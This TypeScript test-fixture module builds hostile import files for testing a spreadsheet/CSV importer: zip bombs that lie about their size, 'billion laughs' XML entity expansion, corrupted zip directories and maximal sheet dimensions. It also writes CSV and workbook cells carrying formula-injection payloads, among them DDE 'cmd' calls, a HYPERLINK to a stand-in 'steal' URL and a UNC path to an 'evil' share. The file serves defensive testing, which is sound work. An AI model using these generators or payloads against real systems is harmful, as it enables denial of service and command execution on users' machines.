/**
 * A corpus of hostile import files, generated in code (conventions, habit 12): broken and
 * malicious zips, zip bombs, XML entity expansion, absurd sheet sizes, binaries renamed .xlsx,
 * formulas that must never run, control characters and huge strings, and a CSV in two encodings.
 *
 * Zip bombs are built without ever holding the expanded data: the sheet XML is a prefix, one
 * 1 MiB block of a repeated row pattern deflated once with a full flush (so it is self-contained
 * and byte-aligned) and repeated N times in the raw deflate stream, and a suffix. The CRC-32 is
 * computed incrementally over the same block. A hand-written zip container lets a bomb declare
 * its real size or lie about it, as real bombs do.
 */
import { constants, crc32, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { encryptedOoxml, gbkEncode } from './workbooks';

export interface ZipPart {
  name: string;
  /** Raw deflate chunks (method 8), or the stored bytes (method 0). */
  chunks: Uint8Array[];
  method: 0 | 8;
  crc: number;
  /** Real expanded size. */
  size: number;
  /** Uncompressed size written into the headers (a bomb may lie); default the real size. */
  declaredSize?: number;
}

/** A zip entry deflated from text or bytes. */
export function deflatedPart(name: string, content: string | Uint8Array): ZipPart {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
  return { name, chunks: [deflateRawSync(bytes)], method: 8, crc: crc32(bytes), size: bytes.length };
}

/** A stored (uncompressed) entry. */
export function storedPart(name: string, bytes: Uint8Array): ZipPart {
  return { name, chunks: [bytes], method: 0, crc: crc32(bytes), size: bytes.length };
}

function u16(n: number): Buffer {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
}

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
}

/** A plain zip (no ZIP64: every size must fit 32 bits) of the parts, in order. */
export function zipFile(parts: readonly ZipPart[]): Uint8Array {
  const out: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name, 'utf8');
    const compressed = part.chunks.reduce((n, c) => n + c.length, 0);
    const declared = part.declaredSize ?? part.size;
    const common = Buffer.concat([u16(20), u16(0x0800), u16(part.method), u16(0), u16(0x21), u32(part.crc), u32(compressed), u32(declared), u16(name.length), u16(0)]);
    const local = Buffer.concat([u32(0x04034b50), common, name]);
    central.push(Buffer.concat([u32(0x02014b50), u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(offset), name]));
    out.push(local, ...part.chunks.map((c) => Buffer.from(c.buffer, c.byteOffset, c.byteLength)));
    offset += local.length + compressed;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.concat([u32(0x06054b50), u16(0), u16(0), u16(parts.length), u16(parts.length), u32(cd.length), u32(offset), u16(0)]);
  return new Uint8Array(Buffer.concat([...out, cd, end]));
}

const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

/** The fixed parts of a one-sheet xlsx (content types, relationships, workbook). */
function packageParts(sharedStrings: boolean): ZipPart[] {
  const ct = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  return [
    deflatedPart(
      '[Content_Types].xml',
      `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${ct}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${ct}.worksheet+xml"/>${sharedStrings ? `<Override PartName="/xl/sharedStrings.xml" ContentType="${ct}.sharedStrings+xml"/>` : ''}</Types>`,
    ),
    deflatedPart('_rels/.rels', `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    deflatedPart('xl/workbook.xml', `${XML_HEAD}<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    deflatedPart(
      'xl/_rels/workbook.xml.rels',
      `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>${sharedStrings ? `<Relationship Id="rId2" Type="${REL_NS}/sharedStrings" Target="sharedStrings.xml"/>` : ''}</Relationships>`,
    ),
  ];
}

/** An inline-string cell. */
export function inlineCell(ref: string, text: string): string {
  return `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
}

/** A one-sheet xlsx from the sheet's XML body (inside <worksheet>) and optional shared strings XML. */
export function minimalXlsx(sheetBody: string, options: { sharedStringsXml?: string; sheetPrologue?: string } = {}): Uint8Array {
  const sheet = `${XML_HEAD}${options.sheetPrologue ?? ''}<worksheet xmlns="${MAIN_NS}" xmlns:r="${REL_NS}">${sheetBody}</worksheet>`;
  const parts = packageParts(options.sharedStringsXml !== undefined);
  if (options.sharedStringsXml !== undefined) parts.push(deflatedPart('xl/sharedStrings.xml', options.sharedStringsXml));
  parts.push(deflatedPart('xl/worksheets/sheet1.xml', sheet));
  return zipFile(parts);
}

const BLOCK_BYTES = 1024 * 1024;

/** A part whose content is prefix + pattern repeated to about `targetBytes` + suffix, never held whole. */
export function bombPart(name: string, prefix: string, pattern: string, suffix: string, targetBytes: number, declaredSize?: number): ZipPart {
  const unit = Buffer.from(pattern, 'utf8');
  const block = Buffer.alloc(Math.floor(BLOCK_BYTES / unit.length) * unit.length);
  for (let at = 0; at < block.length; at += unit.length) unit.copy(block, at);
  const head = Buffer.from(prefix, 'utf8');
  const tail = Buffer.from(suffix, 'utf8');
  const repeats = Math.max(1, Math.ceil(targetBytes / block.length));
  const flush = { finishFlush: constants.Z_FULL_FLUSH, level: 9 };
  const deflatedBlock = deflateRawSync(block, flush);
  const chunks: Uint8Array[] = [deflateRawSync(head, flush)];
  let crc = crc32(head);
  for (let i = 0; i < repeats; i++) {
    chunks.push(deflatedBlock);
    crc = crc32(block, crc);
  }
  chunks.push(deflateRawSync(tail));
  crc = crc32(tail, crc);
  const size = head.length + repeats * block.length + tail.length;
  return { name, chunks, method: 8, crc, size, ...(declaredSize === undefined ? {} : { declaredSize }) };
}

const GIB = 1024 * 1024 * 1024;

export interface BombOptions {
  /** Expanded size of the bomb part; default 1.1 GiB. */
  expandedBytes?: number;
  /** Declare this uncompressed size instead of the real one. */
  lieAbout?: number;
  /** Which part explodes: rows of the sheet, one endless cell, or the shared strings. */
  shape?: 'rows' | 'one-cell' | 'shared-strings';
  /** Stored filler entry appended so the file crosses the streaming threshold. */
  paddingBytes?: number;
}

/** A small xlsx whose sheet (or shared strings) XML expands to more than a gigabyte. */
export function zipBombXlsx(options: BombOptions = {}): Uint8Array {
  const target = options.expandedBytes ?? 1.1 * GIB;
  const shape = options.shape ?? 'rows';
  const sheetHead = `${XML_HEAD}<worksheet xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheetData>`;
  const sheetTail = '</sheetData></worksheet>';
  const parts = packageParts(shape === 'shared-strings');
  if (shape === 'shared-strings') {
    parts.push(bombPart('xl/sharedStrings.xml', `${XML_HEAD}<sst xmlns="${MAIN_NS}">`, '<si><t>炸弹</t></si>', '</sst>', target, options.lieAbout));
    parts.push(deflatedPart('xl/worksheets/sheet1.xml', `${sheetHead}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${sheetTail}`));
  } else if (shape === 'one-cell') {
    parts.push(bombPart('xl/worksheets/sheet1.xml', `${sheetHead}<row r="1"><c r="A1" t="inlineStr"><is><t>`, '炸弹炸弹炸弹炸弹', `</t></is></c></row>${sheetTail}`, target, options.lieAbout));
  } else {
    parts.push(bombPart('xl/worksheets/sheet1.xml', sheetHead, '<row><c t="inlineStr"><is><t>炸弹</t></is></c></row>', sheetTail, target, options.lieAbout));
  }
  if (options.paddingBytes) parts.push(storedPart('xl/media/image1.bin', seededBytes(options.paddingBytes, 99)));
  return zipFile(parts);
}

/** "Billion laughs": ten levels of entities each ten times the one below (10^9 × "哈"). */
export function billionLaughsDoctype(root: string): string {
  const levels = ['<!ENTITY lol0 "哈">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<!DOCTYPE ${root} [${levels.join('')}]>`;
}

export function billionLaughsSheet(): Uint8Array {
  return minimalXlsx(`<sheetData><row r="1">${inlineCell('A1', '姓名')}</row><row r="2">${inlineCell('A2', '&lol9;')}</row></sheetData>`, {
    sheetPrologue: billionLaughsDoctype('worksheet'),
  });
}

export function billionLaughsSharedStrings(): Uint8Array {
  const sst = `${XML_HEAD}${billionLaughsDoctype('sst')}<sst xmlns="${MAIN_NS}" count="2" uniqueCount="2"><si><t>姓名</t></si><si><t>&lol9;</t></si></sst>`;
  return minimalXlsx('<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row></sheetData>', { sharedStringsXml: sst });
}

/** A sheet declaring the full 1,048,576 × 16,384 grid with a last cell on row 1,048,576. */
export function lastRowSheet(): Uint8Array {
  return minimalXlsx(
    `<dimension ref="A1:XFD1048576"/><sheetData><row r="1">${inlineCell('A1', '姓名')}${inlineCell('B1', '证件号码')}</row><row r="2">${inlineCell('A2', '张三')}</row><row r="1048576">${inlineCell('A1048576', '末行')}</row></sheetData>`,
  );
}

/** A sheet with a cell in the last column XFD (16,384). */
export function lastColumnSheet(): Uint8Array {
  return minimalXlsx(`<dimension ref="A1:XFD1"/><sheetData><row r="1">${inlineCell('A1', '姓名')}${inlineCell('XFD1', '最后一列')}</row></sheetData>`);
}

/** ~300,000 real small rows of CSV (a header and short text cells). */
export function manyRowsCsv(rows = 300_000): Uint8Array {
  const lines = ['序号,名称,备注'];
  for (let i = 1; i <= rows; i++) lines.push(`${i},项${i % 97},x`);
  return new Uint8Array(Buffer.from(lines.join('\r\n') + '\r\n', 'utf8'));
}

/** Deterministic pseudo-random bytes (xorshift32). */
export function seededBytes(length: number, seed: number): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

export function elfBinary(): Uint8Array {
  const bytes = seededBytes(64 * 1024, 7);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0]);
  return bytes;
}

export function pngImage(): Uint8Array {
  const bytes = seededBytes(32 * 1024, 11);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  return bytes;
}

/** The first `fraction` of a file, as an interrupted download leaves it. */
export function truncated(bytes: Uint8Array, fraction = 0.6): Uint8Array {
  return bytes.slice(0, Math.floor(bytes.length * fraction));
}

function endOfCentralDirectory(bytes: Uint8Array): { offset: number; size: number } {
  const dv = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  for (let i = bytes.length - 22; i >= 0; i--) {
    if (dv.getUint32(i, true) === 0x06054b50) return { size: dv.getUint32(i + 12, true), offset: dv.getUint32(i + 16, true) };
  }
  throw new Error('no end of central directory');
}

/** Every `stride`-th byte of the central directory inverted (sizes, offsets, names, signatures). */
export function corruptCentralDirectory(bytes: Uint8Array, stride = 7): Uint8Array {
  const out = bytes.slice();
  const cd = endOfCentralDirectory(out);
  for (let i = cd.offset + 3; i < cd.offset + cd.size; i += stride) out[i] = (out[i] ?? 0) ^ 0xff;
  return out;
}

/**
 * Only the fields that say where each entry is and how big (compressed size, local offset) of
 * the central directory inverted: every name still reads as an xlsx part.
 */
export function corruptEntryOffsets(bytes: Uint8Array): Uint8Array {
  const out = bytes.slice();
  const cd = endOfCentralDirectory(out);
  const dv = new DataView(out.buffer, out.byteOffset, out.byteLength);
  let at = cd.offset;
  while (at + 46 <= cd.offset + cd.size && dv.getUint32(at, true) === 0x02014b50) {
    dv.setUint32(at + 20, dv.getUint32(at + 20, true) ^ 0x00ff00ff, true);
    dv.setUint32(at + 42, dv.getUint32(at + 42, true) ^ 0x0000ffff, true);
    at += 46 + dv.getUint16(at + 28, true) + dv.getUint16(at + 30, true) + dv.getUint16(at + 32, true);
  }
  return out;
}

/** Formulas of every kind with their cached results (ExcelJS writes <f> and <v>). */
export async function formulaWorkbook(): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const ws = workbook.addWorksheet('公式');
  ws.addRow(['说明', '公式']);
  ws.addRow(['算术', { formula: '1+1', result: 2 }]);
  ws.addRow(['超链接', { formula: 'HYPERLINK("http://example.invalid/steal","点我")', result: '点我' }]);
  ws.addRow(['DDE', { formula: "cmd|' /C calc'!A0", result: '缓存值' }]);
  ws.addRow(['无缓存值', { formula: 'NOW()' }]);
  ws.addRow(['外部引用', { formula: "'\\\\evil\\share\\[x.xlsx]Sheet1'!A1", result: 5 }]);
  ws.addRow(['文本', "=cmd|' /C calc'!A0"]);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

/** CSV cells that a spreadsheet would take for formulas (formula injection). */
export function formulaCsv(): Uint8Array {
  const rows = ['说明,内容', '算术,=1+1', '超链接,"=HYPERLINK(""http://example.invalid"",""点我"")"', "DDE,=cmd|' /C calc'!A0", '加号,+1+1', '减号,-1+1', '艾特,@SUM(1)'];
  return new Uint8Array(Buffer.from(rows.join('\r\n') + '\r\n', 'utf8'));
}

export const CONTROL_CHARACTERS = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i))
  .filter((ch) => ch !== '\t' && ch !== '\n' && ch !== '\r')
  .join('');

function ooxmlEscape(text: string): string {
  return text.replace(/[&<>]/g, (ch) => (ch === '&' ? '&amp;' : ch === '<' ? '&lt;' : '&gt;'));
}

/**
 * Control characters written as Excel writes them (_xHHHH_ escapes) and raw (invalid XML 1.0, as
 * a careless exporter writes them), a 100,000-character string, zero-width and bidi marks and
 * characters outside the BMP, in shared strings.
 */
export function controlCharacterWorkbook(longLength = 100_000): Uint8Array {
  const escaped = CONTROL_CHARACTERS.split('')
    .map((ch) => `_x${ch.charCodeAt(0).toString(16).padStart(4, '0').toUpperCase()}_`)
    .join('');
  const strings = ['说明', '内容', '控制字符', `前${escaped}后`, '原始控制字符', `前\u0001\u0007\u001b后`, '长文本', '长'.repeat(longLength), '零宽与方向', '张\u200b三\u202e反向\ufeff', '代理对', '𠀀𪚥'];
  const sst = `${XML_HEAD}<sst xmlns="${MAIN_NS}" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((t) => `<si><t xml:space="preserve">${ooxmlEscape(t)}</t></si>`).join('')}</sst>`;
  const rows = Array.from({ length: strings.length / 2 }, (_, r) => `<row r="${r + 1}"><c r="A${r + 1}" t="s"><v>${2 * r}</v></c><c r="B${r + 1}" t="s"><v>${2 * r + 1}</v></c></row>`);
  return minimalXlsx(`<sheetData>${rows.join('')}</sheetData>`, { sharedStringsXml: sst });
}

/** A CSV with control characters and a 100,000-character cell. */
export function controlCharacterCsv(longLength = 100_000): Uint8Array {
  const rows = ['说明,内容', `控制字符,前\u0001\u0007\u001b后`, `长文本,${'长'.repeat(longLength)}`];
  return new Uint8Array(Buffer.from(rows.join('\r\n') + '\r\n', 'utf8'));
}

/** One CSV pasted together from a UTF-8 file and a GBK file. */
export function mixedEncodingCsv(): Uint8Array {
  const utf8 = Buffer.from('姓名,证件号码,村\r\n张三,440229199001011234,青云村\r\n李四,440229199202022345,青云村\r\n', 'utf8');
  const gbk = gbkEncode('王五,440229198803033456,青云村\r\n赵六,440229197704044567,青云村\r\n');
  return new Uint8Array(Buffer.concat([utf8, gbk]));
}

export { encryptedOoxml };
